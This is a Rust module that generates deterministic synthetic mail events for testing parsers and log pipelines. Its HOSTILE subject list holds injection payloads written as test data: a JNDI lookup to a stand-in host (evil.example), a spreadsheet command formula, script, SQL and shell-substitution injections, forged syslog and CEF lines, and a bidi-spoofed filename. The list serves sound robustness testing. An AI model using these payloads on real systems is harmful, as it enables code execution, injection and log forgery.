//! The mail traffic behind the events: message number `n` of a run is always the same message, so that its
//! receipt, processing and delivery agree, as they do in a real account.

use crate::json;
use fastrand::Rng;

/// How hostile the free text of events is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Hostility {
    /// About one subject in thirty carries something that breaks naive parsers.
    #[default]
    Some,
    None,
    /// Every subject.
    All,
    /// Every subject carries line separators that are not `\n`: U+2028, U+2029, U+0085, VT, FF.
    Separators,
    /// Every subject carries the escape of half a surrogate pair: legal JSON text, not a legal string.
    Surrogates,
}

const SENDER_DOMAINS: [&str; 8] = [
    "vendor.example.net",
    "partner.example.org",
    "bulk.example.org",
    "lists.example.org",
    "bank.example.com",
    "shop.example.net",
    "c0rp-example.com",
    "xn--bcher-kva.example",
];
const SENDERS: [&str; 10] =
    ["billing", "news", "dev", "promo", "it", "ceo", "no-reply", "o'brien", "anna+orders", "support"];
const PEOPLE: [&str; 12] = [
    "ana", "raul", "bob", "cfo", "jürgen", "mei.lin", "sales", "helpdesk", "olga", "s.o'neil", "priya",
    "board",
];
const FILES: [&str; 10] = [
    "invoice 4711.pdf",
    "setup.exe",
    "macro.xlsm",
    "Überweisung.docx",
    "photo.JPG",
    "archive.tar.gz",
    "a,b;c.csv",
    "report \"final\".pdf",
    "no-extension",
    "gpj.\u{202e}exe",
];
const SUBJECTS: [&str; 14] = [
    "Invoice",
    "Re: Invoice",
    "Your order has shipped",
    "Password expiry",
    "Fwd: minutes of the meeting",
    "Urgent wire",
    "Win!",
    "Shared document",
    "Einladung zur Vorführung – Größe & Maße",
    "請求書のご案内",
    "Счёт на оплату",
    "Weekly newsletter",
    "New version",
    "AW: AW: Rückfrage",
];
/// Inside of JSON strings (escapes included). Each breaks some parser, log format or terminal in the field.
const HOSTILE: [&str; 22] = [
    "Hello\\r\\n<134>1 2026-01-01T00:00:00Z fake su - - - forged line",
    "two\\nlines",
    "line\u{2028}separator and\u{2029}paragraph separator",
    "next line\u{85}char",
    "pipes a|b|c and equals k=v\\\\=w",
    "CEF:0|Forged|x|1|1|forged|10|act=allow",
    "] closes [id x=\\\"y\\\"] structured data",
    "quote \\\" backslash \\\\ end\\\\",
    "\u{202e}fdp.exe is \u{2066}bidi\u{2069}",
    "nul \\u0000 byte and bell \\u0007",
    "\\u001b[31mred\\u001b[0m terminal",
    "rocket \\ud83d\\ude80 escaped, rocket 🚀 plain",
    "slash \\/ escaped, \\u00fcml\\u00e4ut escaped",
    "=cmd|'/C calc'!A0",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x {0} $(id) `id`",
    "'; DROP TABLE events;--",
    "\u{feff}starts with a byte order mark",
    "tab\\there \\b\\f",
    "{\\\"event_id\\\":\\\"forged\\\",\\\"type\\\":\\\"receipt\\\"}",
    "z\u{335}a\u{321}l\u{489}g\u{489}o and zero\u{200b}width",
];
const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// Spreads the bits of two numbers over one: the same pair always gives the same number (splitmix64).
pub fn mix(a: u64, b: u64) -> u64 {
    let mut z = a ^ b.wrapping_mul(0x9e37_79b9_7f4a_7c15).wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// One of `list` by any number.
pub fn pick(list: &[&'static str], number: u64) -> &'static str {
    let at = number % (list.len().max(1) as u64);
    usize::try_from(at).ok().and_then(|at| list.get(at)).copied().unwrap_or_default()
}

/// `length` characters of URL-safe base64.
pub fn push_token(out: &mut String, rng: &mut Rng, length: usize) {
    let mut bits = 0;
    for n in 0..length {
        if n % 10 == 0 {
            bits = rng.u64(..);
        }
        let at = usize::try_from(bits & 63).unwrap_or(0);
        out.push(char::from(BASE64.get(at).copied().unwrap_or(b'A')));
        bits >>= 6;
    }
}

/// `length` hexadecimal digits.
pub fn push_hex(out: &mut String, rng: &mut Rng, length: usize) {
    let mut bits = 0;
    for n in 0..length {
        if n % 16 == 0 {
            bits = rng.u64(..);
        }
        out.push(char::from_digit((bits & 15) as u32, 16).unwrap_or('0')); // four bits always fit
        bits >>= 4;
    }
}

/// `before` + number + `after`, without the cost of formatting machinery.
fn push_number(out: &mut String, number: u64) {
    let mut digits = Vec::with_capacity(20);
    json::decimal(&mut digits, number);
    out.extend(digits.into_iter().map(char::from));
}

/// An address of the networks reserved for documentation (RFC 5737).
pub fn push_ip(out: &mut String, number: u64) {
    out.push_str(pick(&["192.0.2.", "198.51.100.", "203.0.113."], number >> 8));
    push_number(out, number & 0xff);
}

/// One message; the strings are reused from message to message.
#[derive(Default)]
pub struct Message {
    pub aggregate: String,
    pub id: String,
    pub sender: String,
    pub domain: &'static str,
    pub recipient: String,
    /// Inside of a JSON string.
    pub subject: String,
    pub ip: String,
    pub file: &'static str,
    pub size: u64,
    pub attachments: u64,
    pub direction: u64,
}

impl Message {
    /// Becomes message `number` of the run with `seed`.
    pub fn become_nth(&mut self, seed: u64, number: u64, hostility: Hostility) {
        let mut rng = Rng::with_seed(mix(seed, number));
        let dice = rng.u64(..);
        self.aggregate.clear();
        push_token(&mut self.aggregate, &mut rng, 22);
        self.domain = pick(&SENDER_DOMAINS, dice);
        self.sender.clear();
        self.sender.push_str(pick(&SENDERS, dice >> 3));
        self.sender.push('@');
        self.sender.push_str(self.domain);
        self.id.clear();
        self.id.push('<');
        push_number(&mut self.id, number);
        self.id.push('.');
        push_token(&mut self.id, &mut rng, 8);
        self.id.push('@');
        self.id.push_str(self.domain);
        self.id.push('>');
        self.recipient.clear();
        self.recipient.push_str(pick(&PEOPLE, dice >> 9));
        self.recipient.push_str("@corp.example.com");
        self.ip.clear();
        push_ip(&mut self.ip, dice >> 17);
        self.file = pick(&FILES, dice >> 28);
        self.attachments = (dice >> 34) % 3;
        self.size = 2_000 + (dice >> 36) % 4_000_000;
        self.direction = dice >> 58;
        self.write_subject(hostility, rng.u64(..), number);
    }

    fn write_subject(&mut self, hostility: Hostility, dice: u64, number: u64) {
        self.subject.clear();
        let hostile = match hostility {
            Hostility::None => false,
            Hostility::Some => dice % 31 == 7,
            _ => true,
        };
        if !hostile {
            self.subject.push_str(pick(&SUBJECTS, dice >> 8));
            self.subject.push(' ');
            push_number(&mut self.subject, number);
            if dice >> 56 == 3 {
                self.subject.push_str(&", and so on".repeat(200));
            }
            return;
        }
        match hostility {
            Hostility::Separators => {
                self.subject.push_str("a\u{2028}b\u{2029}c\u{85}d\\u000be\\u000cf ");
            }
            Hostility::Surrogates => self.subject.push_str("half \\ud83d pair "),
            _ => self.subject.push_str(pick(&HOSTILE, dice >> 8)),
        }
        push_number(&mut self.subject, number);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_number_is_the_same_message() {
        let (mut a, mut b) = (Message::default(), Message::default());
        b.become_nth(1, 4, Hostility::All);
        a.become_nth(1, 7, Hostility::Some);
        b.become_nth(1, 7, Hostility::Some);
        assert_eq!((&a.aggregate, &a.id, &a.subject, &a.ip), (&b.aggregate, &b.id, &b.subject, &b.ip));
        b.become_nth(2, 7, Hostility::Some);
        assert_ne!(a.aggregate, b.aggregate);
    }

    #[test]
    fn every_hostile_subject_is_legal_inside_a_json_string() {
        for hostile in HOSTILE {
            let text = format!("\"{hostile}\"");
            assert!(serde_json::from_str::<String>(&text).is_ok(), "{hostile}");
        }
    }

    #[test]
    fn hostility_is_as_asked() {
        let mut m = Message::default();
        let mut seen = |h: Hostility, what: &str| {
            (0..1_000)
                .filter(|&n| {
                    m.become_nth(9, n, h);
                    m.subject.contains(what)
                })
                .count()
        };
        assert_eq!(seen(Hostility::Separators, "\u{2028}"), 1_000);
        assert_eq!(seen(Hostility::None, "forged"), 0);
        assert!((1..30).contains(&seen(Hostility::Some, "forged")));
        assert_eq!(seen(Hostility::Surrogates, "\\ud83d"), 1_000);
    }
}
